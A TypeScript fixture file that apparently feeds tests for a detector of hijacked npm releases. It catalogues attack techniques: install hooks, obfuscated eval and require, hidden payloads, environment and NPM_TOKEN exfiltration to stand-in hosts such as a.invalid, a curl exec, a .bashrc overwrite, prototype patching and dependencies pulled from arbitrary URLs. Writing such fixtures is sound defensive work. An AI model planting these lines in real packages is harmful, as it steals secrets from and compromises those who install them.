import type { Attack } from './attack.ts';

const plain = "exports.join = (a, b) => a + '-' + b;\n";
const index = (more: string) => ({ files: { 'index.js': `${plain}${more}\n` } });
const encoded = Buffer.from("console.log('x')").toString('base64');

/** What somebody publishes who has taken over a package. */
export const packageAttacks: readonly Attack[] = [
  {
    name: 'postinstall',
    family: 'install script',
    how: 'runs when it is installed',
    release: { manifest: { scripts: { postinstall: 'node setup.js' } }, files: { 'setup.js': '' } },
  },
  {
    name: 'preinstall',
    family: 'install script',
    how: 'runs before anything else is installed',
    release: { manifest: { scripts: { preinstall: 'node setup.js' } }, files: { 'setup.js': '' } },
  },
  {
    name: 'binding.gyp',
    family: 'install script',
    how: 'makes npm run node-gyp without any script',
    release: {
      files: { 'binding.gyp': '{"targets":[{"target_name":"x","sources":["<!(node setup.js)"]}]}' },
    },
  },
  {
    name: 'postinstall-altered',
    family: 'install script',
    how: 'keeps the script and alters what it does',
    before: { manifest: { scripts: { postinstall: 'node notice.js' } }, files: { 'notice.js': '' } },
    release: {
      manifest: { scripts: { postinstall: 'node notice.js && node -e "1"' } },
      files: { 'notice.js': '' },
    },
  },
  {
    name: 'postinstall-of-a-new-dependency',
    family: 'install script',
    how: 'brings a package that runs when it is installed',
    release: { manifest: { dependencies: { 'attack-helper-a': '1.0.0' } } },
    also: { 'attack-helper-a': { manifest: { scripts: { postinstall: 'node x.js' } } } },
  },
  {
    name: 'eval-of-base64',
    family: 'obfuscation',
    how: 'decodes a program and evaluates it',
    release: index(`eval(Buffer.from('${encoded}', 'base64').toString());`),
  },
  {
    name: 'constructor-constructor',
    family: 'obfuscation',
    how: 'makes code by way of a constructor of a constructor',
    release: index("(() => {}).constructor.constructor('return 1')();"),
  },
  {
    name: 'filter-constructor',
    family: 'obfuscation',
    how: 'reaches Function by computed names',
    release: index("[]['fil' + 'ter']['constr' + 'uctor']('return 1')();"),
  },
  {
    name: 'hex-require',
    family: 'obfuscation',
    how: 'loads a module whose name is written in hex',
    release: index("require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());"),
  },
  {
    name: 'aliased-require',
    family: 'obfuscation',
    how: 'passes require on, and calls it by another name',
    release: index("const load = require; load(['child', 'process'].join('_'));"),
  },
  {
    name: 'main-module',
    family: 'obfuscation',
    how: 'loads by way of the main module',
    release: index("process.mainModule.require('child_process');"),
  },
  {
    name: 'process-binding',
    family: 'obfuscation',
    how: 'goes below the modules',
    release: index("process.binding('spawn_sync');"),
  },
  {
    name: 'computed-import',
    family: 'obfuscation',
    how: 'imports what it computes',
    release: index("import('node:' + ['child', 'process'].join('_'));"),
  },
  {
    name: 'global-by-name',
    family: 'obfuscation',
    how: 'reaches a global by a computed name',
    release: index("globalThis['ev' + 'al']('1');"),
  },
  {
    name: 'timer-with-text',
    family: 'obfuscation',
    how: 'gives a timer text to evaluate',
    release: index("setTimeout('1 + 1', 10);"),
  },
  {
    name: 'vm',
    family: 'obfuscation',
    how: 'runs text in a context',
    release: index("require('vm').runInThisContext('1');"),
  },
  {
    name: 'wasm',
    family: 'obfuscation',
    how: 'brings its program as WebAssembly',
    release: index('new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));'),
  },
  {
    name: 'minified',
    family: 'obfuscation',
    how: 'becomes unreadable',
    release: index(`var a=[${'"x",'.repeat(600)}"x"];`),
  },
  {
    name: 'invisible-code',
    family: 'obfuscation',
    how: 'hides a program in characters that nobody sees',
    release: index(`const hidden = '${'\u{E0041}\u{E0042}\u{E0043}'.repeat(20)}';`),
  },
  {
    name: 'bidirectional-text',
    family: 'obfuscation',
    how: 'reads otherwise than it runs',
    release: index("const level = 'user\u202E \u2066// admin\u2069 \u2066';"),
  },
  {
    name: 'payload-in-a-fixture',
    family: 'hidden payload',
    how: 'keeps its program in a text file of its tests, and loads that',
    release: {
      files: { 'index.js': `${plain}require('./test/data.txt');\n`, 'test/data.txt': 'console.log(1)\n' },
    },
  },
  {
    name: 'native-module',
    family: 'hidden payload',
    how: 'brings machine code',
    release: { files: { 'lib.node': '\u007fELF\u0002\u0001\u0001\u0000\u0000\u0000\u0000' } },
  },
  {
    name: 'environment-to-a-host',
    family: 'exfiltration',
    how: 'sends the environment away',
    release: index("require('https').get('https://a.invalid/?' + JSON.stringify(process.env));"),
  },
  {
    name: 'environment-to-an-allowed-host',
    family: 'exfiltration',
    how: 'sends a token to the host that it talked to before',
    before: index("exports.ping = () => require('https').get('https://api.invalid/ping');"),
    release: index(
      "exports.ping = () => require('https').get('https://api.invalid/ping?' + process.env.NPM_TOKEN);",
    ),
  },
  {
    name: 'names-that-tell',
    family: 'exfiltration',
    how: 'asks name servers for secrets',
    release: index("require('dns').lookup(process.env.USER + '.a.invalid', () => {});"),
  },
  {
    name: 'fetch',
    family: 'exfiltration',
    how: 'needs no module to talk',
    release: index("fetch('https://a.invalid/', { method: 'POST', body: process.cwd() });"),
  },
  {
    name: 'web-socket',
    family: 'exfiltration',
    how: 'opens a channel for commands',
    release: index("new WebSocket('wss://a.invalid/');"),
  },
  {
    name: 'curl',
    family: 'exfiltration',
    how: 'lets another program talk',
    release: index("require('child_process').exec('curl https://a.invalid/');"),
  },
  {
    name: 'worker',
    family: 'exfiltration',
    how: 'acts where nobody looks',
    release: index("new (require('worker_threads').Worker)('1', { eval: true });"),
  },
  {
    name: 'writes-files',
    family: 'exfiltration',
    how: 'plants a file that something else runs',
    release: index("require('fs').writeFileSync(require('os').homedir() + '/.bashrc', 'x');"),
  },
  {
    name: 'patched-prototype',
    family: 'patching',
    how: 'alters what all arrays do',
    release: index('Array.prototype.map = function () { return []; };'),
  },
  {
    name: 'patched-global',
    family: 'patching',
    how: 'listens to every request of the service',
    release: index('globalThis.fetch = () => {};'),
  },
  {
    name: 'patched-by-define',
    family: 'patching',
    how: 'alters a builtin by way of defineProperty',
    release: index("Object.defineProperty(Object.prototype, 'admin', { value: true });"),
  },
  {
    name: 'changed-answer',
    family: 'release',
    how: 'answers something else to what the client calls',
    release: { files: { 'index.js': "exports.join = (a, b) => a + '_' + b;\n" } },
  },
  {
    name: 'an-hour-old',
    family: 'release',
    how: 'is merged before anybody can have noticed',
    release: { ...index('// A fix.'), daysOld: 0 },
  },
  {
    name: 'new-dependency-that-talks',
    family: 'release',
    how: 'lets a package that it brings do the work',
    release: { manifest: { dependencies: { 'attack-helper-b': '1.0.0' } } },
    also: { 'attack-helper-b': { files: { 'index.js': "require('https').get('https://a.invalid/');\n" } } },
  },
  {
    name: 'dependency-from-git',
    family: 'release',
    how: 'needs a package from outside any registry',
    release: { manifest: { dependencies: { 'attack-helper-c': 'git+https://a.invalid/c.git' } } },
  },
  {
    name: 'dependency-from-a-url',
    family: 'release',
    how: 'needs a tarball that can change at any time',
    release: { manifest: { dependencies: { 'attack-helper-d': 'https://a.invalid/d.tgz' } } },
  },
];
